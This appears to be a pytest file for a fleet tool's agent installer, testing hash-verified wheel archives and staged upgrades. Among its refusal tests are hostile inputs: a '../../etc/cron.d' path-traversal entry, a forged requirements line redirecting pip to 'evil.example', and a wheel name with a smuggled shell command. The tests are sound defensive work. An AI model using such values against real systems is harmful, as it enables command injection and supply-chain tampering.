"""Only the agent's wheels that were kept are installed, and agents are upgraded in waves."""

import hashlib
import io
import tarfile
from pathlib import Path
from typing import Final

import pytest

from services.cli.ssh_join import agent_wheels, host_steps, upgrade_steps
from services.cli.ssh_join.agent_wheels import keep_wheels, kept_wheels, packed_wheels, read_wheels
from services.cli.ssh_join.host_steps import FREE_KIB_MIN, HostState, Target
from services.cli.ssh_join.upgrade_steps import waves, why_not_upgraded
from services.primitives.errors import NavarchError

OWN: Final = "navarch-0.1.0-py3-none-any.whl"
OTHER: Final = "msgspec-0.22.0-cp311-cp311-manylinux2014_x86_64.manylinux_2_17_x86_64.whl"
FILES: Final = {OWN: b"own", OTHER: b"other"}
JOINED: Final = HostState(
    python="/usr/bin/python3", installed=True, joined="gpu/gpu-01", free_kib=FREE_KIB_MIN
)


def fill(folder: Path, files: dict[str, bytes]) -> Path:
    """Write the files of a folder, which is made."""
    folder.mkdir()
    for name, data in files.items():
        (folder / name).write_bytes(data)
    return folder


def members(packed: bytes) -> dict[str, bytes]:
    """Return the files of an archive."""
    with tarfile.open(fileobj=io.BytesIO(packed)) as archive:
        found = {each.name: archive.extractfile(each) for each in archive}
        return {name: data.read() for name, data in found.items() if data is not None}


def repacked(files: dict[str, bytes]) -> bytes:
    """Return files as an archive of a stranger."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        for name, data in files.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return packed.getvalue()


def test_what_is_kept_is_given_again_the_same(tmp_path: Path) -> None:
    """The requirements have the hash of each, and the release tells two builds apart."""
    kept = keep_wheels(fill(tmp_path / "wheels", FILES), tmp_path)
    own, other = (hashlib.sha256(FILES[name]).hexdigest() for name in (OWN, OTHER))

    assert kept_wheels(tmp_path) == kept
    assert members(kept.packed)["requirements.txt"].decode().splitlines() == [
        f"msgspec==0.22.0 --hash=sha256:{other}",
        f"navarch[credentials]==0.1.0 --hash=sha256:{own}",
    ]
    assert kept.release.startswith("0.1.0+")
    assert kept.release != packed_wheels({**FILES, OWN: b"next"}, "x").release


def test_nothing_is_kept_at_first(tmp_path: Path) -> None:
    """A dry run reads a folder, and keeps nothing."""
    read_wheels(fill(tmp_path / "wheels", FILES))

    assert not kept_wheels(tmp_path).packed


@pytest.mark.parametrize(
    ("changed", "said"),
    [
        ({OWN: b"forged"}, f"{OWN} is missing, or not the file"),
        ({"evil-1.0-py3-none-any.whl": b"x"}, "evil-1.0-py3-none-any.whl is missing, or not"),
        ({OTHER: None}, f"{OTHER} is missing"),
        ({"../../etc/cron.d/x": b"x"}, "cron.d/x is missing, or not the file"),
        ({"SHA256SUMS": None}, "is damaged"),
        ({"requirements.txt": None}, "is damaged"),
    ],
)
def test_what_was_changed_since_is_not_installed(
    tmp_path: Path, changed: dict[str, bytes | None], said: str
) -> None:
    """Another wheel, one more, one fewer, and a path that leaves the folder are each named."""
    files = {**members(packed_wheels(FILES, "x").packed), **changed}
    (tmp_path / agent_wheels.FILE).write_bytes(repacked({k: v for k, v in files.items() if v}))
    with pytest.raises(NavarchError, match=said):
        kept_wheels(tmp_path)


def test_requirements_of_a_stranger_are_not_used(tmp_path: Path) -> None:
    """Requirements are made of the hashes, whatever the archive says."""
    kept = packed_wheels(FILES, "x")
    forged = {**members(kept.packed), "requirements.txt": b"--index-url https://evil.example\n"}
    (tmp_path / agent_wheels.FILE).write_bytes(repacked(forged))

    assert kept_wheels(tmp_path) == kept


@pytest.mark.parametrize(
    ("files", "said"),
    [
        ({}, "no wheel navarch"),
        ({OTHER: b"x"}, "no wheel navarch"),
        ({**FILES, "navarch-0.2.0-py3-none-any.whl": b"x"}, "several wheels navarch"),
        ({**FILES, OTHER.replace("0.22.0", "0.23.0"): b"x"}, "two versions of msgspec"),
        ({**FILES, "a b-1-py3-none-any.whl": b"x"}, "which is no wheel's name"),
        ({**FILES, "x-1;touch$IFS/x-py3-none-any.whl": b"x"}, "which is no wheel's name"),
    ],
)
def test_wheels_of_which_not_one_set_is_meant_are_refused(
    files: dict[str, bytes], said: str
) -> None:
    """A name that a shell would read is none."""
    with pytest.raises(NavarchError, match=said):
        packed_wheels(files, "wheels")


def test_a_machine_checks_hashes_before_it_installs() -> None:
    """No index is asked, and pip refuses a file whose hash is not in the requirements."""
    script = host_steps.install_script("/usr/bin/python3", "unit")

    assert script.index("sha256sum --quiet -c SHA256SUMS") < script.index("pip install")
    for each in ("--no-index", "--require-hashes", "--no-deps", "-r requirements.txt"):
        assert each in script


def test_the_first_wave_is_one_machine() -> None:
    """All machines are in a wave, once and in order."""
    machines = [Target(f"g-{n}", "root", "h", 22) for n in range(100)]
    found = waves(machines)

    assert [1, 4, 16, 32, 32, 15] == [len(each) for each in found]
    assert machines == [each for wave in found for each in wave]


@pytest.mark.parametrize(
    ("state", "is_known", "said"),
    [
        (JOINED, True, ""),
        (JOINED._replace(joined=""), True, "has joined no pool"),
        (JOINED._replace(joined="web/gpu-01"), True, "is web/gpu-01 already"),
        (JOINED._replace(joined="gpu/gpu-02"), True, "is gpu/gpu-02 already"),
        (JOINED, False, "of another fleet"),
        (JOINED._replace(free_kib=1), True, "make room"),
        (JOINED._replace(python=""), True, "needs 3.11"),
    ],
)
def test_only_machines_of_the_pool_are_upgraded(
    state: HostState, is_known: bool, said: str
) -> None:
    """A stranger's machine, and one that joined by another pool's token, are left as they are."""
    found = why_not_upgraded(state, "gpu", "gpu-01", is_known=is_known)

    assert said in found
    assert bool(said) == bool(found)


def test_the_release_is_written_once_the_agent_is_back() -> None:
    """The script removes first what the agent before has written."""
    script = upgrade_steps.restart_script("0.1.0+abc")

    assert script.index("rm -f /var/lib/navarch-agent/health.json") < script.index("connected")
    assert script.index("connected") < script.index("echo 0.1.0+abc > /opt/navarch/release")
